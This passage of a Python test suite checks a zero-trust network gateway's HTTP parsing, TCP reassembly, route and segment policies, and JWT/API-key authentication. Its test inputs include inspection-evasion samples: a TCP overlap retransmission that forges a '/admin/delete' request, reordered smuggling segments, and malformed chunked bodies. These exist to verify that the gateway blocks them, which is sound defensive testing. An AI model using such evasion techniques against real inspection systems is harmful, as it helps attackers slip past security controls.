    if 'R' not in str(to_client.flags) or to_client.seq != tcp_of(bad).ack or to_server.seq != tcp_of(bad).seq:
        r.fail('RST numbers wrong: %s / %s' % (to_client.summary(), to_server.summary()))


@case('http-drop')
def http_drop(zt, args):
    t = TcpSession(*V4)
    head = t.handshake()
    bad = t.segment(0, 'PA', b'GET /\x00 HTTP/1.1\r\nHost: a\r\n\r\n', advance=False)
    r = zt.run(head + [bad], '--http-violation', 'drop')
    r.expect_forwarded(head)
    r.expect_drops({'http_violation': 1})
    r.expect_totals(verdicts_drop=1, injected_packets=0)
    expect_event(r, 'drop', 'http_nul_byte')


@case('http-pipelined')
def http_pipelined(zt, args):
    t = TcpSession(*V4)
    three = GOOD_REQUEST * 3
    response = b'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok' * 3
    packets = t.handshake() + t.exchange(three, response) + t.close()
    r = zt.run(packets)
    r.expect_clean_pass(packets)
    r.expect_totals(http_flows=1, http_requests=3, http_responses=3, http_violations=0)


@case('http-chunked')
def http_chunked(zt, args):
    """A chunked request body (extension, trailer) split mid-chunk across segments, then a chunked
    response: both parsed to completion, keep-alive goes on; a bad chunk size is a violation."""
    body = (b'POST /api/v1/orders HTTP/1.1\r\nHost: api.example\r\nTransfer-Encoding: chunked\r\n\r\n'
            b'5;ext=1\r\nhello\r\n6\r\n world\r\n0\r\nX-Trailer: t\r\n\r\n')
    response = (b'HTTP/1.1 201 Created\r\nTransfer-Encoding: chunked\r\n\r\n'
                b'2\r\nok\r\n0\r\n\r\n')
    t = TcpSession(*V4)
    cut = body.index(b'hello') + 2
    packets = (t.handshake() + [t.c('PA', body[:cut]), t.c('PA', body[cut:])] +
               [t.s('PA', response)] + t.exchange(GOOD_REQUEST) + t.close())
    r = zt.run(packets)
    r.expect_clean_pass(packets)
    r.expect_totals(http_requests=2, http_responses=2, http_violations=0)
    t = TcpSession(*V4)
    head = t.handshake()
    bad = t.segment(0, 'PA', body.replace(b'6\r\n world', b'6x\r\n world'), advance=False)
    r = zt.run(head + [bad])
    r.expect_drops({'http_violation': 1})
    expect_event(r, 'deny', 'http_bad_chunk_size')


@case('stream-reordered')
def stream_reordered(zt, args):
    """A request split in three segments that arrive 1, 3, 2: buffered and forwarded as they
    come, parsed in order once the gap fills. With --stream-ooo drop the early one is dropped."""
    t = TcpSession(*V4)
    head = t.handshake()
    parts = [SMUGGLING[:20], SMUGGLING[20:50], SMUGGLING[50:]]
    segs = [t.c('PA', p) for p in parts]
    packets = head + [segs[0], segs[2], segs[1]]
    r = zt.run(packets)
    r.expect_totals(stream_buffered=1, http_violations=1, verdicts_deny=1)
    r.expect_drops({'http_violation': 1})
    # The early segment was forwarded; the gap filler is the one denied: a RST takes its place.
    if r.forwarded[:-1] != head + [segs[0], segs[2]] or len(r.reflected) != 1:
        r.fail('expected the handshake, segments 1 and 3, a RST, and a 403 back to the client')
    t = TcpSession(*V4)
    head = t.handshake()
    segs = [t.c('PA', p) for p in [GOOD_REQUEST[:20], GOOD_REQUEST[20:]]]
    r = zt.run(head + [segs[1], segs[0]], '--stream-ooo', 'drop')
    r.expect_forwarded(head + [segs[0]])
    r.expect_drops({'stream_out_of_order_dropped': 1})


@case('stream-overlap')
def stream_overlap(zt, args):
    """Classic evasion: a retransmission of bytes already seen with other content."""
    t = TcpSession(*V4)
    head = t.handshake()
    original, forged = b'GET /api/v1/items HTTP/1.1\r\nHost: a', b'GET /admin/delete HTTP/1.1\r\nHost: a'
    first = t.c('PA', original)
    t.seq[0] -= len(original)
    evil = t.c('PA', forged)
    r = zt.run(head + [first, evil])
    r.expect_drops({'stream_overlap_conflict': 1})
    r.expect_totals(verdicts_reset=1)
    expect_event(r, 'reset', 'stream_overlap_conflict')
    t = TcpSession(*V4)
    head = t.handshake()
    first = t.c('PA', GOOD_REQUEST)
    t.seq[0] -= len(GOOD_REQUEST)
    again = t.c('PA', GOOD_REQUEST)
    r = zt.run(head + [first, again])
    r.expect_clean_pass(head + [first, again])
    r.expect_totals(stream_duplicates=1, http_requests=1)


# ---- policy: segments, services, routes ----------------------------------------------------

POLICY = os.path.join(os.path.dirname(os.path.abspath(__file__)), 'policy.conf')


def request(method, path, host='api.example', body=b'', headers=()):
    """A request's bytes: the request line, Host, the (name, value) headers in order, then
    Content-Length when there is a body, and the body."""
    head = '%s %s HTTP/1.1\r\nHost: %s\r\n' % (method, path, host)
    for name, value in headers:
        head += '%s: %s\r\n' % (name, value)
    if body:
        head += 'Content-Length: %d\r\n' % len(body)
    return head.encode() + b'\r\n' + body


def one_request(client, server, raw, sport, dport=80):
    """The packets of a connection carrying one request: the handshake, then the request in one segment."""
    t = TcpSession(client, server, sport=sport, dport=dport)
    return t.handshake() + [t.c('PA', raw)]


def policy_events(r):
    return {(e['flow']['src_port']): e for e in events_of(r)}


def expect_request_events(r, cases, describe):
    """cases: (sport, raw request, want) on one connection each; want is what describe(event) must
    return, or None when the request must leave no event. Returns the events by source port."""
    events = policy_events(r)
    for sport, raw, want in cases:
        e = events.get(sport)
        if want is None:
            if e is not None:
                r.fail('%r: expected no event, got %s' % (raw, e))
        elif e is None or describe(e) != tuple(want):
            r.fail('%r: expected event %s, got %s' % (raw, want, e))
    return events


def expect_requests_forwarded(r, cases, passes):
    """Each case's request reached the server exactly when passes(want) says it should."""
    forwarded = [bytes(tcp_of(f).payload) for f in r.forwarded if tcp_of(f).payload]
    for _, raw, want in cases:
        if passes(want) != (raw in forwarded):
            r.fail('%r: forwarded %s, expected %s' % (raw, raw in forwarded, passes(want)))


@case('policy-routes')
def policy_routes(zt, args):
    """One connection per request to orders-api: allowed routes pass; no route, a wrong method,
    an unknown Host get the default (403); a reset route resets; a monitor route passes and
    logs what it would have done. Each decision names segment, service and route."""
    cases = [  # sport, request, expected (action, reason, route, mode) or None when allowed
        (41000, request('GET', '/api/v1/orders/42'), None),
        (41001, request('POST', '/api/v1/orders', body=b'{"item":1}'), None),
        (41002, request('GET', '/static/css/site.css'), None),
        (41003, request('GET', '/api/v1/unknown'), ('deny', 'no_route', None, 'enforce')),
        (41004, request('DELETE', '/api/v1/orders/42'), ('deny', 'method_not_allowed', 'get-order', 'enforce')),
        (41005, request('GET', '/admin/users'), ('reset', 'route_action', 'admin', 'enforce')),
        (41006, request('GET', '/api/v1/orders/42', host='evil.example'),
         ('deny', 'unknown_host', None, 'enforce')),
        (41007, request('GET', '/beta/new-checkout'), ('deny', 'route_action', 'beta', 'monitor')),
        # The normaliser's path is what routes see: this is /api/v1/orders/7.
        (41008, request('GET', '/api/v1/./items/../orders/%37'), None),
    ]
    packets = []
    for sport, raw, _ in cases:
        packets += one_request(*V4, raw, sport)
    r = zt.run(packets, '--policy', POLICY)
    events = expect_request_events(r, cases, lambda e: (e['action'], e['reason'], e['route'], e['mode']))
    for sport, raw, want in cases:
        e = events.get(sport)
        if want is None or e is None:
            continue
        if want[1] != 'unknown_host' and e['service'] != 'orders-api' or e['segment'] != 'clients':
            r.fail('%r: event places the request wrongly: %s' % (raw, e))
    r.expect_totals(policy_allowed=4, policy_denied=4, policy_monitored=1, verdicts_deny=3, verdicts_reset=1)
    r.expect_drops({'policy_denied': 4})
    # The same decisions, labelled as /metrics shows them: by route, verdict and reason.
    r.expect_requests({('orders-api', 'get-order', 'allow', 'allowed'): 2,
                       ('orders-api', 'create-order', 'allow', 'allowed'): 1,
                       ('orders-api', 'static', 'allow', 'allowed'): 1,
                       ('orders-api', '', 'deny', 'no_route'): 1,
                       ('orders-api', 'get-order', 'deny', 'method_not_allowed'): 1,
                       ('orders-api', 'admin', 'reset', 'route_action'): 1,
                       ('', '', 'deny', 'unknown_host'): 1,
                       ('orders-api', 'beta', 'monitored', 'route_action'): 1})
    # Every allowed or monitored request reached the server.
    expect_requests_forwarded(r, cases, lambda want: want is None or want[3] == 'monitor')


@case('policy-segments')
def policy_segments(zt, args):
    """Micro-segmentation before any layer-7 work: a guest's or an unknown source's SYN to a
    service is dropped; UDP to a service is not HTTP; traffic to an address no service
    listens on is outside the policy; IPv6 clients are a segment like any; a monitor-mode
    service lets a refused flow through and logs it."""
    guest = one_request('192.0.2.200', V4[1], request('GET', '/api/v1/orders/1'), 42000)
    stranger = one_request('203.0.113.9', V4[1], request('GET', '/api/v1/orders/1'), 42001)
    udp_to_service = udp(V4[0], V4[1], sport=5353, dport=80, data=b'not http')
    outside = one_request(V4[0], '198.51.100.99', request('GET', '/anything', host='other'), 42002)
    v6 = one_request(*V6, request('GET', '/api/v1/orders/6'), 42003)
    v6_denied = one_request(*V6, request('GET', '/nope'), 42004)
    guest_to_monitored = one_request('192.0.2.201', '198.51.100.40', request('GET', '/status', host='a.partner.example'),
                                     42005, dport=8080)
    packets = guest + stranger + [udp_to_service] + outside + v6 + v6_denied + guest_to_monitored
    r = zt.run(packets, '--policy', POLICY)
    events = policy_events(r)
    for sport in (42000, 42001):
        e = events.get(sport)
        if e is None or (e['action'], e['reason'], e['mode']) != ('drop', 'segment_denied', 'enforce'):
            r.fail('sport %d: expected a segment_denied drop event, got %s' % (sport, e))
    if events[42000]['segment'] != 'guests' or events[42001]['segment'] is not None:
        r.fail('segment names wrong: %s / %s' % (events[42000], events[42001]))
    if (events.get(5353) or {}).get('reason') != 'non_http':
        r.fail('expected a non_http event for UDP to the service: %s' % events.get(5353))
    e = events.get(42004)
    if e is None or (e['reason'], e['service'], e['flow']['src']) != ('no_route', 'orders-api', V6[0]):
        r.fail('IPv6 request to /nope: expected no_route for orders-api, got %s' % e)
    e = events.get(42005)
    if e is None or (e['reason'], e['mode']) != ('segment_denied', 'monitor'):
        r.fail('guest to the monitored partner-api: expected a monitor event, got %s' % e)
    # The guest's and the stranger's SYNs (each client retries nothing here: one SYN each), then
    # the rest of their packets find no flow; the UDP datagram is dropped as non-HTTP.
    drops = r.totals['drops']
    if drops['policy_segment_denied'] != 2 or drops['policy_non_http'] != 1 or drops['policy_denied'] != 1:
        r.fail('drops: %s' % {k: v for k, v in drops.items() if v})
    forwarded = [bytes(f) for f in r.forwarded]
    for frame in outside + v6 + guest_to_monitored:
        if frame not in forwarded:
            r.fail('expected forwarded: %s' % Ether(frame).summary())
    r.expect_totals(policy_allowed=1, policy_monitored=1)


@case('policy-errors')
def policy_errors(zt, args):
    """A policy with an error never starts ztgate, and says where."""
    with tempfile.TemporaryDirectory(prefix='ztg-policy-') as tmp:
        bad = os.path.join(tmp, 'bad.conf')
        with open(POLICY) as f:
            text = f.read()
        with open(bad, 'w') as f:
            f.write(text.replace('"GET", "HEAD"', '"GET", "FETCH"'))
        line = text[:text.index('"GET", "HEAD"')].count('\n') + 1
        expect_rejected(zt, ['--policy', bad], '%s:%d: error' % (bad, line))
        expect_rejected(zt, ['--policy', os.path.join(tmp, 'missing.conf')], 'missing.conf')


@case('policy-hot-swap')
def policy_hot_swap(zt, args):
    """Policies applied in a loop through ztgatectl while traffic replays without a pause: no
    packet is lost, every order request passes under both policies, and an items request is
    denied exactly when the policy that denies it is in force (never half of each)."""
    with tempfile.TemporaryDirectory(prefix='ztg-swap-') as tmp:
        path = lambda name: os.path.join(tmp, name)
        with open(POLICY) as f:
            text = f.read()
        allow, deny = path('allow.conf'), path('deny.conf')
        with open(allow, 'w') as f:
            f.write(text)
        with open(deny, 'w') as f:
            f.write(text.replace('path = "/api/v1/items";       action = "allow"; anonymous = true;',
                                 'path = "/api/v1/items";       action = "deny";'))
        packets = []
        for n in range(24):
            t = TcpSession(*V4, sport=43000 + n)
            target = '/api/v1/items' if n % 3 == 0 else '/api/v1/orders/%d' % n
            packets += t.handshake() + t.exchange(request('GET', target)) + t.close()
        with RawPcapWriter(path('in.pcap'), linktype=DLT_EN10MB) as pcap:
            for frame in packets:
                pcap.write(frame)
        sock = path('ztgate.sock')
        argv, prefix = zt.arguments(
            ['-p', '0:1', '--policy', allow, '--control-socket', sock, '--duration', '60',
             '--event-log', path('events.json'), '--stats-json', path('stats.json')],
            ['net_pcap0,rx_pcap=%s,infinite_rx=1,tx_pcap=/dev/null' % path('in.pcap'), 'net_null1,no-rx=1'])
        proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        try:
            deadline = time.time() + 10
            while not os.path.exists(sock) and time.time() < deadline:
                time.sleep(0.05)
            applied = 0
            for i in range(40):
                rc = subprocess.run([args.ztgatectl, '--socket', sock, 'apply', deny if i % 2 == 0 else allow],
                                    stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
                if rc.returncode != 0:
                    raise AssertionError('apply %d failed (%d): %s' % (i, rc.returncode, rc.stderr))
                applied += 1
                time.sleep(0.04)
            # Stopped once every apply is done, however long they took on a loaded machine.
            proc.send_signal(signal.SIGTERM)
            log, _ = proc.communicate(timeout=60)
        finally:
            if proc.poll() is None:
                proc.kill()
            remove_runtime_dir(prefix)
        with open(path('stats.json')) as f:
            totals = json.load(f)['totals']
        with open(path('events.json')) as f:
            lines = [json.loads(line) for line in f]
        audits = [e for e in lines if 'audit' in e]
        events = [e for e in lines if 'audit' not in e]
    if proc.returncode != 0:
        raise AssertionError('ztgate exited %d\n%s' % (proc.returncode, log))
    if len(audits) != applied or any(a['audit']['command'] != 'apply' or a['audit']['status'] != 0 for a in audits):
        raise AssertionError('expected %d audited applies: %s' % (applied, audits[:3]))
    drops = {k: v for k, v in totals['drops'].items() if v}
    if set(drops) - {'policy_denied', 'flow_blocked'}:
        raise AssertionError('drops other than the policy\'s: %s' % drops)
    if totals['rx_packets'] + totals['injected_packets'] != totals['tx_packets'] + totals['dropped']:
        raise AssertionError('packets lost: %s' % {k: totals[k] for k in
                             ('rx_packets', 'injected_packets', 'tx_packets', 'dropped')})
    wrong = [e for e in events if (e['reason'], e['route'], e['path']) != ('route_action', 'items', '/api/v1/items')]
    if wrong:
        raise AssertionError('a decision no policy in force takes: %s' % wrong[:3])
    if not events or totals['policy_allowed'] == 0 or totals['policy_denied'] != len(events):
        raise AssertionError('expected both verdicts: %d denied events, allowed %d, denied %d' %
                             (len(events), totals['policy_allowed'], totals['policy_denied']))
    print('ok policy-hot-swap: %d applies under %d packets; %d requests allowed, %d denied' %
          (applied, totals['rx_packets'], totals['policy_allowed'], totals['policy_denied']))


@case('http-tunnel')
def http_tunnel(zt, args):
    upgrade = (b'GET /chat HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\n'
               b'Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n'
               b'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n')
    switching = (b'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n'
                 b'Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n')
    t = TcpSession(*V4)
    head = t.handshake()
    req = t.segment(0, 'PA', upgrade, advance=False)
    r = zt.run(head + [req])
    r.expect_drops({'http_tunnel_denied': 1})
    expect_event(r, 'deny', 'http_tunnel_websocket')
    t = TcpSession(*V4)
    packets = t.handshake() + [t.c('PA', upgrade), t.s('PA', switching), t.c('PA', b'\x81\x05hello'),
                               t.s('PA', b'not http at all\r\n\r\n')]
    r = zt.run(packets, '--http-tunnel', 'pass')
    r.expect_clean_pass(packets)
    r.expect_totals(http_tunnels=1, http_violations=0)


@case('tcp-bad-checksum')
def tcp_bad_checksum(zt, args):
    """A data segment the server's stack would discard must not be what we inspect."""
    t = TcpSession(*V4)
    head = t.handshake()
    good = t.segment(0, 'PA', GOOD_REQUEST, advance=False)
    bad = Ether(good)
    bad[TCP].chksum ^= 0x1234
    r = zt.run(head + [bytes(bad), good])
    r.expect_forwarded(head + [good])
    r.expect_drops({'tcp_bad_checksum': 1})
    r.expect_totals(http_requests=1)


# ---- identity: JWTs and API keys, with tokens minted by jose (tests/auth) -----------------

AUTH_DIR = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), 'auth')
ID = ('10.0.0.5', '10.0.1.2')  # a client of segment "clients", the orders service
ID_PATH = '/tenants/acme/orders/1'
ID_ALGS = ['HS256', 'HS384', 'HS512', 'RS256', 'RS384', 'RS512', 'PS256', 'PS384', 'PS512',
           'ES256', 'ES384', 'ES512', 'EdDSA']
# The oversized token (~9 KB) must reach the issuer's max_token_bytes, not the parser's
# 8192-byte field line limit.
ID_OPTIONS = ['--http-limit', 'header-line=16384']
ID_MSS = 1400
ID_API_KEY = 'ztgk_' + os.urandom(24).hex()

# Keys are files relative to the policy's directory: the policy is written beside keys/.
IDENTITY_POLICY = '''version = 1; name = "identity"; mode = "enforce";
defaults = { action = "deny"; non_http = "drop"; unknown_host = "deny"; };
segments = ( { name = "clients"; addresses = [ "10.0.0.0/24" ]; }, { name = "servers"; addresses = [ "10.0.1.0/24" ]; } );
issuers = (
  { name = "idp";
    issuer = "https://idp.ztgate.test";
    %(keys)s
    algorithms = [ %(algorithms)s ];
    audiences = [ "orders-api" ];
    leeway = 30;
    max_token_bytes = 8192;
    typ = "at+jwt";
    required_claims = [ "jti" ];
  },
  { name = "other"; issuer = "https://other.ztgate.test"; jwks_file = "keys/other.jwks"; algorithms = [ "ES256" ];
    audiences = [ "orders-api" ]; }
);
api_keys = (
  { id = "batch"; sha256 = "%(api_key_sha256)s"; subject = "svc-batch"; scopes = [ "orders:read" ]; claims = { tenant = "acme"; }; }
);
services = (
  { name = "orders"; hosts = [ "api.example" ]; addresses = [ "10.0.1.2/32" ]; ports = [ 80 ]; segment = "servers";
    authentication = { issuers = [ "idp" ]; api_key_header = "X-API-Key"; };
    routes = (
      { name = "health"; methods = [ "GET" ]; path = "/healthz"; action = "allow"; anonymous = true; },
      { name = "read-order"; methods = [ "GET" ]; path = "/tenants/{tenant}/orders/{id}"; action = "allow";
        require = { scopes = [ "orders:read" ]; bind = { tenant = "tenant"; }; }; },
      { name = "write-order"; methods = [ "PUT" ]; path = "/tenants/{tenant}/orders/{id}"; action = "allow";
        require = { scopes = [ "orders:read", "orders:write" ]; scopes_match = "all"; bind = { tenant = "tenant"; }; }; }
    );
  }
);
access = ( { from = "clients"; to = [ "orders" ]; } );
'''


def jose_tokens(out):
    """Fresh keys (out/keys) and tokens from tests/auth/mint.mjs, after installing the pinned
    jose into $ZTG_JOSE_DIR when it is not there yet: the entries of out/tokens.json."""
    jose_dir = os.environ.get('ZTG_JOSE_DIR')
    if not jose_dir:
        raise AssertionError('ZTG_JOSE_DIR is not set (meson test sets it to BUILD/jose)')
    env = dict(os.environ, ZTG_JOSE_DIR=jose_dir)
    for what, argv in (('installing jose (tests/auth/install.sh)', ['/bin/bash', os.path.join(AUTH_DIR, 'install.sh'), jose_dir]),
                       ('minting tokens (tests/auth/mint.mjs)', ['node', os.path.join(AUTH_DIR, 'mint.mjs'), '--out', out])):
        try:
            p = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, env=env, timeout=300)
        except (OSError, subprocess.TimeoutExpired) as e:
            raise AssertionError('%s: %s (Node.js and npm: apt-get install nodejs npm)' % (what, e))
        if p.returncode != 0:
            raise AssertionError('%s failed (exit %d):\n%s' % (what, p.returncode, p.stdout))
    print(p.stdout.strip())
    with open(os.path.join(out, 'tokens.json')) as f:
        return json.load(f)


def identity_policy(tmp, name='identity.conf', keys='jwks_file = "keys/idp.jwks";', algorithms=ID_ALGS):
    """The identity policy written into tmp (beside the minted keys/): its path."""
    path = os.path.join(tmp, name)
    with open(path, 'w') as f:
        f.write(IDENTITY_POLICY % {'keys': keys, 'algorithms': ', '.join('"%s"' % a for a in algorithms),
                                   'api_key_sha256': hashlib.sha256(ID_API_KEY.encode()).hexdigest()})
    return path


def identity_entry(name, headers, expect='allow', reason=None, method='GET', path=ID_PATH, subject=None):
    """A request like a tokens.json entry, with these header lines instead of a token."""
    return {'name': name, 'token': None, 'headers': headers, 'expect': expect, 'reason': reason,
            'method': method, 'path': path, 'kid': None, 'subject': subject}


def identity_request(entry):
    """The HTTP/1.1 request of an entry: its token as a Bearer credential, or its header lines."""
    method = entry.get('method', 'GET')
    lines = ['%s %s HTTP/1.1' % (method, entry.get('path', ID_PATH)), 'Host: api.example']
    if entry.get('token') is not None:
        lines.append('Authorization: Bearer ' + entry['token'])
    lines += entry.get('headers') or []
    body = b'{"status":"shipped"}' if method == 'PUT' else b''
    if body:
        lines.append('Content-Length: %d' % len(body))
    return '\r\n'.join(lines).encode() + b'\r\n\r\n' + body


def identity_session(raw, sport):
    """A connection carrying raw in segments of at most ID_MSS bytes: (packets, request segments)."""
    t = TcpSession(*ID, sport=sport)
    head = t.handshake()
    segs = [t.c('PA', raw[i:i + ID_MSS]) for i in range(0, len(raw), ID_MSS)]
    return head + segs, segs


def describe_event(e):
    extra = ''.join(' %s=%s' % (k, json.dumps(e[k])) for k in ('detail', 'identity', 'route') if e.get(k) is not None)
    return '%s/%s%s' % (e['action'], e['reason'], extra)


def run_identity(zt, entries, policy, first_sport):
    """One connection per entry, every request judged as the entry expects: an allowed one
    leaves no refusal event and is forwarded whole; a denied one leaves a deny event with
    exactly the expected reason and its request (the segment completing its head) is held
    back. Every mismatch is listed at once."""
    packets, sessions = [], {}
    for i, entry in enumerate(entries):
        frames, segs = identity_session(identity_request(entry), first_sport + i)
        packets += frames
        sessions[first_sport + i] = (entry, segs)
    r = zt.run(packets, '--policy', policy, *ID_OPTIONS)
    events = policy_events(r)
    forwarded = set(r.forwarded)
    problems = []
    for sport, (entry, segs) in sorted(sessions.items()):
        e, label = events.get(sport), '%s (sport %d)' % (entry['name'], sport)
        if entry['expect'] == 'allow':
            if e is not None and e['action'] != 'allow':
                problems.append('%s: expected allowed, got %s' % (label, describe_event(e)))
            elif not all(s in forwarded for s in segs):
                problems.append('%s: allowed but not forwarded whole' % label)
            continue
        if e is None:
            problems.append('%s: expected deny/%s, got no event (request %s)' %
                            (label, entry['reason'], 'forwarded' if segs[-1] in forwarded else 'not forwarded'))
            continue
        if (e['action'], e['reason']) != ('deny', entry['reason']):
            problems.append('%s: expected deny/%s, got %s' % (label, entry['reason'], describe_event(e)))
        elif segs[-1] in forwarded:
            problems.append('%s: denied, yet its request reached the server' % label)
        identity = e.get('identity') or {}
        for field in ('kid', 'subject'):
            if identity.get(field) is not None and entry.get(field) is not None and identity[field] != entry[field]:
                problems.append('%s: event identity.%s %r, expected %r' % (label, field, identity[field], entry[field]))
    allowed = sum(entry['expect'] == 'allow' for entry, _ in sessions.values())
    for counter, want in (('policy_allowed', allowed), ('policy_denied', len(sessions) - allowed),
                          ('auth_denied', len(sessions) - allowed)):
        if r.totals.get(counter, want) != want:
            problems.append('%s %s, expected %d' % (counter, r.totals.get(counter), want))
    # Authentication failures by reason, as /metrics labels them: one per denied entry, under its reason.
    want_failures = {}
    for entry, _ in sessions.values():
        if entry['expect'] != 'allow':
            want_failures[entry['reason']] = want_failures.get(entry['reason'], 0) + 1
    if r.stats['auth_failures'] != want_failures:
        problems.append('auth_failures %s, expected %s' % (r.stats['auth_failures'], want_failures))
    if problems:
        r.fail('%d problem(s) with %d requests:\n  %s' % (len(problems), len(sessions), '\n  '.join(problems)))
    print('ok: %d requests (%d allowed, %d denied as expected) under %s' %
          (len(sessions), allowed, len(sessions) - allowed, os.path.basename(policy)))


@case('identity-jwt')
def identity_jwt(zt, args):
    """One valid token per algorithm jose signs with, keys from a JWKS file, then the
    asymmetric ones from SPKI PEM files (pem_keys: no HMAC, HS* tokens are refused); the
    anonymous route needs no credentials."""
    with tempfile.TemporaryDirectory(prefix='ztg-identity-') as tmp:
        valid = [t for t in jose_tokens(tmp) if t['suite'] == 'jwt']
        health = identity_entry('anonymous-health', [], path='/healthz')
        run_identity(zt, valid + [health], identity_policy(tmp), 44000)
        kids = sorted(name[:-4] for name in os.listdir(os.path.join(tmp, 'keys')) if name.endswith('.pem'))
        pem = 'pem_keys = ( %s );' % ', '.join('{ kid = "%s"; file = "keys/%s.pem"; }' % (k, k) for k in kids)
        asymmetric = [a for a in ID_ALGS if not a.startswith('HS')]
        pem_tokens = [t if t['kid'] in kids else dict(t, expect='deny', reason='alg_not_allowed') for t in valid]
        run_identity(zt, pem_tokens, identity_policy(tmp, 'pem.conf', keys=pem, algorithms=asymmetric), 44100)


@case('identity-negative')
def identity_negative(zt, args):
    """Every token the policy must refuse, each for its own reason. The revoked jti needs the
    control socket: identity-rotation revokes it; here, not revoked, it must pass."""
    with tempfile.TemporaryDirectory(prefix='ztg-identity-') as tmp:
        tokens = jose_tokens(tmp)
        entries = [t for t in tokens if t['name'] == 'valid-es256']
        entries += [dict(t, expect='allow', reason=None) if t['reason'] == 'revoked' else t
                    for t in tokens if t['suite'] == 'negative']
        run_identity(zt, entries, identity_policy(tmp), 45000)


@case('identity-api-key')
def identity_api_key(zt, args):
    """An API key (X-API-Key, its SHA-256 in the policy) is an identity with the key's scopes
    and claims; an unknown key, two keys or a key and a token are refused."""
    with tempfile.TemporaryDirectory(prefix='ztg-identity-') as tmp:
        token = next(t['token'] for t in jose_tokens(tmp) if t['name'] == 'valid-es256')
        key = 'X-API-Key: ' + ID_API_KEY
        entries = [
            identity_entry('api-key', [key]),
            identity_entry('api-key-header-case', ['x-api-key: ' + ID_API_KEY]),
            identity_entry('api-key-anonymous-route', [key], path='/healthz'),
            identity_entry('api-key-scope', [key], 'deny', 'scope_missing', method='PUT', subject='svc-batch'),
            identity_entry('api-key-other-tenant', [key], 'deny', 'object_mismatch', path='/tenants/globex/orders/1',
                           subject='svc-batch'),
            identity_entry('api-key-unknown', ['X-API-Key: ztgk_' + '0' * 48], 'deny', 'api_key_unknown'),
            identity_entry('api-key-near-miss', ['X-API-Key: ' + ID_API_KEY[:-1]], 'deny', 'api_key_unknown'),
            identity_entry('api-key-twice', [key, 'X-API-Key: ztgk_' + '1' * 48], 'deny', 'credentials_conflict'),
            identity_entry('api-key-and-token', [key, 'Authorization: Bearer ' + token], 'deny', 'credentials_conflict'),
            identity_entry('api-key-as-bearer', ['Authorization: Bearer ' + ID_API_KEY], 'deny', 'token_malformed'),
            identity_entry('no-credentials', [], 'deny', 'credentials_missing'),
        ]
        run_identity(zt, entries, identity_policy(tmp), 46000)


class LiveZtgate:
    """ztgate with a control socket on a pcap replayed in a loop, as policy-hot-swap runs it;
    steps() runs ztgatectl commands between stretches of traffic and remembers when."""

    def __init__(self, zt, ztgatectl, tmp, name, policy, packets):
        self.ztgatectl, self.name = ztgatectl, name
        path = lambda suffix: os.path.join(tmp, '%s.%s' % (name, suffix))
        self.events_path, self.stats_path, self.sock = path('events.json'), path('stats.json'), path('sock')
        with RawPcapWriter(path('pcap'), linktype=DLT_EN10MB) as pcap:
            for frame in packets:
                pcap.write(frame)
        argv, self.prefix = zt.arguments(
            ['-p', '0:1', '--policy', policy, '--control-socket', self.sock, '--duration', '30',
             '--event-log', self.events_path, '--stats-json', self.stats_path] + ID_OPTIONS,
            ['net_pcap0,rx_pcap=%s,infinite_rx=1,tx_pcap=/dev/null' % path('pcap'), 'net_null1,no-rx=1'])
        self.proc = subprocess.Popen(argv, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        deadline = time.time() + 10
        while not os.path.exists(self.sock) and self.proc.poll() is None and time.time() < deadline:
            time.sleep(0.05)
        if not os.path.exists(self.sock):
            self.stop()
            raise AssertionError('%s: no control socket\n%s' % (name, self.log))

    def ctl(self, *argv):
        p = subprocess.run([self.ztgatectl, '--socket', self.sock] + list(argv), stdout=subprocess.PIPE,
                           stderr=subprocess.PIPE, text=True, timeout=30)
        if p.returncode != 0:
            raise AssertionError('%s: ztgatectl %s: exit %d\n%s%s' % (self.name, ' '.join(argv), p.returncode,
                                                                    p.stdout, p.stderr))
        return p.stdout

    def allowed(self):
        return json.loads(self.ctl('stats', '--json'))['totals']['policy_allowed']

    def steps(self, steps, dwell=1.0):
        """steps: (label, [ztgatectl argv, ...]). Runs each step's commands, then lets traffic
        flow for dwell seconds: [(label, start, end, requests allowed meanwhile)]."""
        out = []
        for label, commands in steps:
            for argv in commands:
                self.ctl(*argv)
            start, allowed = time.time(), self.allowed()
            time.sleep(dwell)
            out.append((label, start, time.time(), self.allowed() - allowed))
        return out

    def stop(self):
        """Ends the run (SIGINT to the ztgate this started): (events, audits, totals)."""
        try:
            if self.proc.poll() is None:
                self.proc.send_signal(signal.SIGINT)
            self.log, _ = self.proc.communicate(timeout=60)
        finally:
            if self.proc.poll() is None:
                self.proc.kill()
                self.log, _ = self.proc.communicate()
            remove_runtime_dir(self.prefix)
        if self.proc.returncode != 0 or not os.path.exists(self.stats_path):
            raise AssertionError('%s: ztgate exited %d\n%s' % (self.name, self.proc.returncode, self.log))
        with open(self.stats_path) as f:
            totals = json.load(f)['totals']
        with open(self.events_path) as f:
            lines = [json.loads(line) for line in f]
        return [e for e in lines if 'audit' not in e], [e for e in lines if 'audit' in e], totals


def event_time(e):
    return datetime.datetime.strptime(e['timestamp'], '%Y-%m-%dT%H:%M:%S.%fZ').replace(
        tzinfo=datetime.timezone.utc).timestamp()


def live_check(name, phases, events, want, log):
    """want: {phase label: {sport: reason or None}}: in each phase (its first and last 50 ms
    aside, when a command may be half in force) a sport with a reason is refused for it at
    least once, one with None never; every phase allowed requests; no event of a sport or a
    reason no phase names."""
    problems, margin = [], 0.05
    reasons = {r for w in want.values() for r in w.values() if r}
    sports = {s for w in want.values() for s in w}
    for e in events:
        if e['flow']['src_port'] not in sports or e['reason'] not in reasons:
            problems.append('an event no phase expects: %s' % json.dumps(e))
            break
    for label, start, end, allowed in phases:
        inside = [e for e in events if start + margin <= event_time(e) <= end - margin]
        if allowed <= 0:
            problems.append('%s: no request allowed in %.2f s' % (label, end - start))
        for sport, reason in sorted(want[label].items()):
